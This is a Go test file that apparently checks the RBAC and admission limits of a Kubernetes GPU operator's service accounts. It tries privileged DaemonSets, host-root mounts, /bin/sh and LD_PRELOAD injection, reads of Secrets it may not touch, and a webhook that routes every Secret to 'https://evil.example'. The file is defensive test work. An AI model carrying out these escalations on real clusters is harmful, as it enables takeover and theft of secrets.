package charts

import (
	"context"
	"maps"
	"strings"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/dynamic"
)

// controllerAttacks are the attacks with the controller's token.
func controllerAttacks() map[string][]attack {
	const everywhere, here = "gpufabric-controller everywhere: ", "gpufabric-controller in gpufabric-system: "
	class := func(name, owner, more, selector string) attempt {
		return tryCreate(classResource, `{"apiVersion": "resource.k8s.io/v1", "kind": "DeviceClass", "metadata": {"name": "`+name+`"`+
			owner+`}, "spec": {`+more+`"selectors": [{"cel": {"expression": "`+selector+`"}}]}}`)
	}
	const owner = `, "ownerReferences": [{"apiVersion": "gpufabric.io/v1alpha1", "kind": "VGPUProfile", "name": "p",
		"uid": "u", "controller": true}]`
	const resource, select_ = `"extendedResourceName": "gpufabric.io/p", `, "device.driver == 'gpu.nvidia.com' && true"
	const foreignLayout = "the controller may write the MIGLayouts of nodes that a MIGLayout with auto selects only"
	layoutOf := func(metadata, labels string) string {
		return `{"apiVersion": "gpufabric.io/v1alpha1", "kind": "MIGLayout", "metadata": {` + metadata + `"name": "tried"}, "spec":
			{"nodeSelector": {"matchLabels": ` + labels + `}, "gpus": [{"uuid": "GPU-1"}]}}`
	}
	const foreign = "the controller may write the DeviceClasses of VGPUProfiles only"
	const shape = "selects devices of gpu.nvidia.com, has no configuration, and no other extended resource than gpufabric.io/p"
	template := func(metadata, request string) attempt {
		return tryCreate(claimTemplateResource, `{"apiVersion": "resource.k8s.io/v1", "kind": "ResourceClaimTemplate", "metadata":
			{"name": "tried",
			"namespace": "default"`+metadata+`}, "spec": {"spec": {"devices": {"requests": [{"name": "x", "exactly": {`+request+`}}]}}}}`)
	}
	const ofDomain = `, "labels": {"resource.nvidia.com/computeDomain": "uid"}`
	const oneDevice = "a template of the controller asks for one device, of its VGPUProfile's class, or for its ComputeDomain's"
	set := func(pod, container string) attempt {
		return tryCreate(daemonSetResource, text(domainSet(pod, container)))
	}
	named := func(name string) attempt {
		return tryCreate(daemonSetResource, strings.ReplaceAll(text(domainSet("", "")), "imex-daemon-", name))
	}
	driver := func() attempt {
		one := domainSet(`"hostNetwork": true`, `"securityContext": {"privileged": true}, "image": "mellanox/ofed-driver:1"`)
		one.SetName("ofed-driver-amd64")
		one.SetLabels(map[string]string{"gpufabric.io/nic-cluster-policy": "p"})
		return tryCreate(daemonSetResource, text(one))
	}
	const daemon = "an IMEX daemon has no privilege, no capability, no directory of its node"
	const certificates = "may write the certificates of IMEX daemons (imex-daemon-UID, of type kubernetes.io/tls) and Secrets of its own only"
	secret := func(metadata, kind string) attempt {
		return tryCreate(secretResource, `{"apiVersion": "v1", "kind": "Secret", "metadata": {"namespace": "`+namespace+`", `+metadata+`}, "type":
			"`+kind+`", "stringData": {"tls.crt": "x", "tls.key": "y"}}`)
	}
	const program = "runs the program imex-daemon with the controller's arguments, variables and directories"
	const takes = "takes no port of its node, no GPU, and at most one processor"
	const shares = "share neither the PIDs nor the IPC of their node, and see no Secret, ConfigMap or token"
	return map[string][]attack{
		everywhere + "computedomains.resource.nvidia.com": {
			{"a ComputeDomain's spec", patch(domainResource, "default", "made", `{"spec": {"numNodes": 99}}`), ""},
			{"a ComputeDomain's labels", patch(domainResource, "default", "made", `{"metadata": {"labels": {"a": "b"}}}`),
				"change nothing else of it"},
			{"another annotation of a ComputeDomain", patch(domainResource, "default", "made", `{"metadata": {"annotations": {"a": "b"}}}`),
				"change nothing else of it"},
			{"another's finalizer", patch(domainResource, "default", "made", `{"metadata": {"finalizers": ["a.b/c"]}}`),
				"change nothing else of it"},
		},
		everywhere + "deviceclasses.resource.k8s.io": {
			{"a class of nobody's", class("tried", "", "", select_), foreign},
			{"an administrator's class", replace(classResource, "", "gpu.nvidia.com", `{"apiVersion": "resource.k8s.io/v1", "kind":
				"DeviceClass", "metadata": {"labels": {"a": "b"}}, "spec": {}}`), "and gpu.nvidia.com belongs to none"},
			{"a profile's class of every device", class("p", owner, resource, "true"), shape},
			{"a profile's class with a way out", class("p", owner, resource, select_+" || true"), shape},
			{"a profile's class as every pod's CPUs", class("p", owner, `"extendedResourceName": "nvidia.com/gpu", `, select_), shape},
			{"a profile's class with a configuration", class("p", owner, resource+`"config": [{"opaque": {"driver": "gpu.nvidia.com", "parameters":
				{}}}], `, select_), shape},
		},
		everywhere + "events": {
			{"an Event in the kubelet's name", tryCreate(eventResource, event("kubelet", "", "ComputeDomain", "made")),
				"writes Events of component controller only, not of kubelet"},
			{"an Event about a pod", tryCreate(eventResource, event("controller", "", "Pod", "there")),
				"about pods and claims, only, not about Pod there"},
		},
		everywhere + "miglayouts.gpufabric.io": {
			{"a layout of nobody's", tryCreate(layoutResource, layoutOf("", `{"kubernetes.io/hostname": "node-b"}`)), foreignLayout},
			{"a layout for all nodes", tryCreate(layoutResource, layoutOf(`"labels": {"gpufabric.io/mig-by-demand": "u"}, "ownerReferences":
				[{"apiVersion": "gpufabric.io/v1alpha1", "kind": "MIGLayout", "name": "auto", "uid": "u", "controller": true}], `,
				`{"zone": "z1"}`)), "selects one node by its kubernetes.io/hostname"},
			{"deleting an administrator's layout", remove(layoutResource, "", "layout"), "and layout is none of them"},
		},
		everywhere + "miglayouts/status.gpufabric.io": {
			{"what a node says of a layout", patch(layoutResource, "", "layout", `{"status": {"nodes": [{"name": "node-b", "observedGeneration": 1,
				"state": "Failed"}]}}`, "status"), "and not write one, which only the node's plugin does"},
		},
		everywhere + "rdmapools/status.gpufabric.io": {
			{"what a node says of a pool", patch(poolResource, "", "pool", `{"status": {"nodes": [`+
				strings.Replace(preyEntry, "node-b", "node-a", 1)+
				`]}}`, "status"), "and not write one, which only the node's plugin does"},
		},
		everywhere + "nodes": {
			{"a taint", patchNode("node-b", `{"spec": {"taints": [{"key": "k", "effect": "NoExecute"}]}}`), "neither the spec nor"},
			{"a label", patchNode("node-b", `{"metadata": {"labels": {"zone": "z2"}}}`), "the controller may change no labels of a node but"},
		},
		everywhere + "rdmapools.gpufabric.io": {
			{"a pool of nobody's", tryCreate(poolResource, `{"apiVersion": "gpufabric.io/v1alpha1", "kind": "RDMAPool", "metadata":
				{"name": "tried"},
				"spec": {"resourceName": "x", "rdmaHcaMax": 8, "devices": ["ens2f0"]}}`),
				"the controller may write the RDMAPools of NicClusterPolicies only"},
			{"an administrator's pool", patch(poolResource, "", "pool", `{"spec": {"rdmaHcaMax": 9}}`), "and pool is of none"},
			{"deleting an administrator's pool", remove(poolResource, "", "pool"), "and pool is of none"},
		},
		everywhere + "resourceclaimtemplates.resource.k8s.io": {
			{"a tenant's template", template("", `"deviceClassName": "gpu.nvidia.com"`), "and default/tried is of none"},
			{"deleting a tenant's template", remove(claimTemplateResource, "default", "tenants"), "and default/tenants is of none"},
			{"changing a tenant's template", replace(claimTemplateResource, "default", "tenants", `{"apiVersion":
				"resource.k8s.io/v1", "kind": "ResourceClaimTemplate", "metadata": {"labels": {"resource.nvidia.com/computeDomain": "uid"}}, "spec":
				{"spec": {"devices": {}}}}`), "and default/tenants is of none"},
			{"a domain's template for GPUs", template(ofDomain, `"deviceClassName": "gpu.nvidia.com"`), oneDevice},
			{"a domain's template with access to all", template(ofDomain,
				`"deviceClassName": "compute-domain-default-channel.nvidia.com", "adminAccess": true`), ""},
		},
		here + "daemonsets.apps": {
			{"a DaemonSet of its own", named("anything-"), "and anything-3f7c6a0e-0d3e-4a53-8a52-3c8a0f6d6f10 is none of them"},
			{"the GPU plugin's DaemonSet", patch(daemonSetResource, namespace, "gpufabric-gpu-plugin", `{"metadata": {"labels": {"a": "b"}}}`),
				"and gpufabric-gpu-plugin is none of them"},
			{"deleting the GPU plugin", remove(daemonSetResource, namespace, "gpufabric-gpu-plugin"), "and gpufabric-gpu-plugin is none of them"},
			{"privileged daemons", set("", `"securityContext": {"privileged": true}`), daemon},
			{"daemons with a capability", set("", `"securityContext": {"privileged": false, "allowPrivilegeEscalation": false, "capabilities":
				{"drop": ["ALL"], "add": ["SYS_ADMIN"]}}`), daemon},
			{"daemons with the node's root", set(`"volumes": [{"name": "root", "hostPath": {"path": "/"}}]`, ""), daemon},
			{"daemons in the node's network", set(`"hostNetwork": true`, ""), daemon},
			{"daemons as the GPU plugin", set(`"serviceAccountName": "gpufabric-gpu-plugin"`, ""), daemon},
			{"daemons of another image", set("", `"image": "registry.example/evil"`), "and no other image"},
			{"daemons among the node's processes", set(`"hostPID": true`, ""), shares},
			{"daemons with the release's Secrets", set(`"volumes": [{"name": "s", "secret": {"secretName": "sh.helm.release.v1.gpufabric.v1"}}]`,
				""), shares},
			{"daemons with another domain's certificate", set(`"volumes": [{"name": "s", "secret": {"secretName": "imex-daemon-other"}}]`, ""),
				shares},
			{"daemons with a Secret in the environment", set("", `"env": [{"name": "S", "valueFrom": {"secretKeyRef": {"name": "s", "key":
				"k"}}}]`), shares},
			{"daemons that run a program of its own", set("", `"command": ["/bin/sh"]`), program},
			{"daemons that run the other program of their image", set("", `"command": ["gpufabric"]`), program},
			{"daemons in another role", set("", `"args": ["gpu-plugin"]`), program},
			{"daemons with an argument of its own", set("", `"args": ["imex-daemon", "--certificates=/tmp"]`), program},
			{"daemons with a program in a probe", set("", `"livenessProbe": {"exec": {"command": ["/bin/sh"]}}`), program},
			{"daemons with a program at their end", set("", `"lifecycle": {"preStop": {"exec": {"command": ["/bin/sh"]}}}`), program},
			{"daemons that load a library", set("", `"env": [{"name": "LD_PRELOAD", "value": "/tmp/x"}]`), program},
			{"daemons with a directory over their program", set(`"volumes": [{"name": "s", "emptyDir": {}}]`,
				`"volumeMounts": [{"name": "s", "mountPath": "/usr/bin"}]`), program},
			{"daemons whose probe asks another host", set("", `"readinessProbe": {"httpGet": {"host": "192.0.2.1", "port": 80}}`), program},
			{"daemons with a second container", set(`"initContainers": [{"name": "d", "image": "ghcr.io/gpufabric/gpufabric:0.1.0", "args":
				["imex-daemon"], "securityContext": {"privileged": false, "allowPrivilegeEscalation": false, "capabilities": {"drop":
				["ALL"]}}}]`, ""), program},
			{"daemons with a port of their node", set("", `"ports": [{"containerPort": 10250, "hostPort": 10250}]`), takes},
			{"daemons with every GPU", set("", `"resources": {"limits": {"nvidia.com/gpu": "8"}}`), takes},
			{"daemons that put every other pod off", set("", `"resources": {"requests": {"cpu": "64"}}`), takes},
			{"a NIC's driver that no list allows", driver(), "run only where rdma.nicClusterPolicy.images lists the images that may"},
		},
		everywhere + "validatingwebhookconfigurations.admissionregistration.k8s.io named gpufabric-webhook": {
			{"no webhook", replace(webhookResource, "", "gpufabric-webhook", `{"apiVersion": "admissionregistration.k8s.io/v1", "kind":
				"ValidatingWebhookConfiguration", "metadata": {}, "webhooks": []}`), "and nothing else of its configuration"},
			{"a webhook of every Secret", replace(webhookResource, "", "gpufabric-webhook", `{"apiVersion": "admissionregistration.k8s.io/v1",
				"kind": "ValidatingWebhookConfiguration", "metadata": {}, "webhooks": [{"name": "claims.gpufabric.io", "sideEffects": "None",
				"admissionReviewVersions": ["v1"], "clientConfig": {"url": "https://evil.example"}, "rules": [{"apiGroups": [""], "apiVersions":
				["v1"], "operations": ["*"], "resources": ["secrets"]}]}]}`), "and nothing else of its configuration"},
		},
		here + "secrets named gpufabric-webhook-certificate": {
			{"deleting it", remove(secretResource, namespace, "gpufabric-webhook-certificate"), "cannot delete resource \"secrets\""},
		},
		here + "secrets named gpufabric-imex-authority": {
			{"reading another Secret", readSecret("gpufabric-vgpu-secret"), "cannot get resource \"secrets\""},
		},
		here + "secrets": {
			{"a token of the GPU plugin", secret(`"name": "imex-daemon-u", "labels": {"resource.nvidia.com/computeDomain": "u"}, "annotations":
				{"kubernetes.io/service-account.name": "gpufabric-gpu-plugin"}`, "kubernetes.io/service-account-token"), certificates},
			{"a Secret of any name", secret(`"name": "sh.helm.release.v1.gpufabric.v2"`, "helm.sh/release.v1"), certificates},
			{"another domain's certificate", secret(`"name": "imex-daemon-u", "labels": {"resource.nvidia.com/computeDomain": "v"}`,
				"kubernetes.io/tls"), certificates},
		},
		here + "computedomains.resource.nvidia.com": {
			{"a ComputeDomain that stands for no clique", tryCreate(domainResource, `{"apiVersion": "resource.nvidia.com/v1beta1", "kind":
				"ComputeDomain", "metadata": {"name": "mine", "namespace": "`+namespace+`"}, "spec": {"channel": {"resourceClaimTemplate":
				{"name": "mine"}}}}`), "stand for NVLink cliques"},
		},
		here + "networkpolicies.networking.k8s.io": {
			{"a policy that opens the webhook", tryCreate(networkPolicyResource, `{"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
				"metadata": {"name": "open", "namespace": "`+namespace+`"}, "spec": {"podSelector": {}, "ingress": [{}]}}`),
				"may make the NetworkPolicies of compute domains (imex-daemon-UID) only, and open is none of them"},
		},
		here + "leases.coordination.k8s.io": {
			{"the scheduler's lease", tryCreate(leaseResource, `{"apiVersion": "coordination.k8s.io/v1", "kind": "Lease", "metadata": {"name":
				"gpufabric-scheduler", "namespace": "`+namespace+`"}}`), "may write the lease gpufabric-system/gpufabric-controller only"},
		},
		here + "leases.coordination.k8s.io named gpufabric-controller": {
			{"kube-scheduler's lease", patch(leaseResource, "kube-system", "kube-scheduler", `{"spec": {"holderIdentity": "x"}}`), "cannot patch"},
		},
	}
}

// readSecret reads a Secret.
func readSecret(name string) attempt {
	return func(ctx context.Context, client dynamic.Interface) error {
		_, err := client.Resource(secretResource).Namespace(namespace).Get(ctx, name, metav1.GetOptions{})
		return err
	}
}

// nodeAttacks are the attacks with the tokens of node plugins, of the scheduler and of the uninstall's Job.
func nodeAttacks() map[string][]attack {
	const scheduler, vgpu = "gpufabric-scheduler in gpufabric-system: ", "gpufabric-vgpu-plugin in gpufabric-system: "
	unit := func(name, value string) string {
		return `{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "` + name + `", "namespace": "` + namespace + `"}, "data":
			{"memoryFactorMiB": "` + value + `"}}`
	}
	raise := func(change string) attempt {
		return replace(configMapResource, namespace, "gpufabric-vgpu-unit", change)
	}
	annotation := `{"metadata": {"annotations": {"volcano.sh/vgpu-ids-new": "x"}}}`
	return map[string][]attack{
		"gpufabric-compute-domain-plugin everywhere: nodes": {
			{"another node's clique", patchNode("node-b", `{"metadata": {"labels": {"nvidia.com/gpu.clique": "x"}}}`), "not node-b"},
		},
		"gpufabric-gpu-plugin everywhere: miglayouts/status.gpufabric.io": {
			{"another node's entry", patch(layoutResource, "", "layout", `{"status": {"nodes": []}}`, "status"), "the entry of that node only"},
		},
		"gpufabric-gpu-plugin everywhere: nodes/status": {
			{"another node's readiness", patchNode("node-b", `{"status": {"conditions": [{"type": "Ready", "status": "False"}]}}`, "status"),
				"not node-b"},
		},
		"gpufabric-rdma-plugin everywhere: rdmapools/status.gpufabric.io": {
			{"another node's entry", patch(poolResource, "", "pool", `{"status": {"nodes": []}}`, "status"), "the entry of that node only"},
		},
		"gpufabric-scheduler everywhere: nodes": {
			{"another annotation", patchNode("node-b", `{"metadata": {"annotations": {"a": "b"}}}`), "no annotations of a node but hamivgpu"},
		},
		scheduler + "leases.coordination.k8s.io": {
			{"the controller's lease", tryCreate(leaseResource, `{"apiVersion": "coordination.k8s.io/v1", "kind": "Lease", "metadata": {"name":
				"gpufabric-controller", "namespace": "`+namespace+`"}}`), "may write the lease gpufabric-system/gpufabric-scheduler only"},
		},
		scheduler + "leases.coordination.k8s.io named gpufabric-scheduler": {
			{"kube-scheduler's lease", patch(leaseResource, "kube-system", "kube-scheduler", `{"spec": {"holderIdentity": "x"}}`), ""},
			// Kubernetes' own role system:kube-scheduler lets it.
			{"kube-scheduler's lease by an update", replace(leaseResource, "kube-system", "kube-scheduler", `{"apiVersion":
				"coordination.k8s.io/v1", "kind": "Lease", "metadata": {}, "spec": {"holderIdentity": "x"}}`),
				"may write the lease gpufabric-system/gpufabric-scheduler only"},
		},
		"gpufabric-uninstall everywhere: computedomains.resource.nvidia.com": {
			{"a ComputeDomain's labels", patch(domainResource, "default", "made", `{"metadata": {"labels": {"a": "b"}}}`),
				"changes nothing else of it"},
			{"a finalizer put on", patch(domainResource, "default", "made", `{"metadata": {"finalizers": ["a.b/c"]}}`),
				"changes nothing else of it"},
		},
		"gpufabric-uninstall everywhere: nodes": {
			{"a label put on", patchNode("node-b", `{"metadata": {"labels": {"nvidia.com/gpu.clique": "x"}}}`), "and puts none on"},
			{"another label taken off", patchNode("node-b", `{"metadata": {"labels": {"zone": null}}}`), "may change no labels of a node but"},
			{"a taint", patchNode("node-b", `{"spec": {"taints": [{"key": "k", "effect": "NoExecute"}]}}`), "neither the spec nor"},
		},
		"gpufabric-uninstall-check everywhere: computedomains.resource.nvidia.com": {
			{"a tenant's ComputeDomain", remove(domainResource, "default", "made"), "is annotated gpufabric.io/uninstall=anyway"},
			{"the finalizer of one that is not being deleted", patch(domainResource, "default", "made", `{"metadata": {"finalizers": null}}`),
				"changes nothing else of it"},
			{"its labels", patch(domainResource, "default", "made", `{"metadata": {"labels": {"a": "b"}}}`), "changes nothing else of it"},
		},
		"gpufabric-uninstall-check in gpufabric-system: deployments.apps named gpufabric-controller": {
			{"another image", editController(`{"image": "mine"}`, `{}`), "changes nothing else of it"},
			{"another argument", editController(`{"args": ["controller", "--imex=Domain", "--image=mine"]}`, `{}`), "changes nothing else of it"},
			{"the node's root", editController(`{}`, `{"volumes": [{"name": "x", "hostPath": {"path": "/"}}]}`), "changes nothing else of it"},
			{"another name server", editController(`{}`, `{"dnsConfig": {"nameservers": ["192.0.2.1"]}}`), "changes nothing else of it"},
			{"another account", editController(`{}`, `{"serviceAccountName": "gpufabric-gpu-plugin"}`), "changes nothing else of it"},
			{"a second container", editController(`{}`, `{"initContainers": [{"name": "x", "image": "mine"}]}`), "changes nothing else of it"},
		},
		"gpufabric-vgpu-plugin everywhere: nodes": {
			{"GPUs on another node", patchNode("node-b", `{"metadata": {"annotations": {"volcano.sh/node-vgpu-register": "x"}}}`), "not node-b"},
		},
		"gpufabric-vgpu-plugin everywhere: pods": {
			{"a pod on another node", patch(podResource, "default", "there", annotation), "may change pods on that node only"},
		},
		"gpufabric-gpu-plugin everywhere: pods/status": {
			{"a pod on another node that is failed", patch(podResource, "default", "there",
				`{"status": {"phase": "Failed", "reason": "SharesRefused"}}`, "status"), "may fail pods on that node only"},
		},
		"gpufabric-vgpu-plugin everywhere: pods/status": {
			{"a pod on another node that is failed", patch(podResource, "default", "there",
				`{"status": {"phase": "Failed", "reason": "SharesRefused"}}`, "status"), "may fail pods on that node only"},
		},
		vgpu + "configmaps": {
			{"a plugin's configuration", tryCreate(configMapResource, unit("volcano-vgpu-node-config", "4")), "gpufabric-vgpu-unit only"},
		},
		vgpu + "configmaps named gpufabric-vgpu-unit": {
			{"a unit of a terabyte", raise(unit("gpufabric-vgpu-unit", "1048576")), "memoryFactorMiB is one of 1, 2, 4"},
			{"a unit that no node needs", raise(unit("gpufabric-vgpu-unit", "5")), "not 5"},
			{"a smaller unit", raise(unit("gpufabric-vgpu-unit", "2")), "the unit of memory grows only: it is 4 MiB"},
			{"no unit", raise(strings.Replace(unit("gpufabric-vgpu-unit", ""), "memoryFactorMiB", "x", 1)), "memoryFactorMiB is one of"},
		},
	}
}

// editController writes fields of the controller's container, and of its pod, in its Deployment.
func editController(container, pod string) attempt {
	return func(ctx context.Context, client dynamic.Interface) error {
		deployments := client.Resource(schema.GroupVersionResource{Group: "apps", Version: "v1", Resource: "deployments"}).Namespace(namespace)
		found, err := deployments.Get(ctx, "gpufabric-controller", metav1.GetOptions{})
		if err != nil {
			return err
		}
		containers, _, err := unstructured.NestedSlice(found.Object, "spec", "template", "spec", "containers")
		if err != nil {
			return err
		}
		maps.Copy(containers[0].(map[string]any), object(container).Object)
		spec := object(pod)
		spec.Object["containers"] = containers
		change := &unstructured.Unstructured{Object: map[string]any{"spec": map[string]any{"template": map[string]any{"spec": spec.Object}}}}
		_, err = deployments.Patch(ctx, "gpufabric-controller", types.MergePatchType, []byte(text(change)),
			metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	}
}
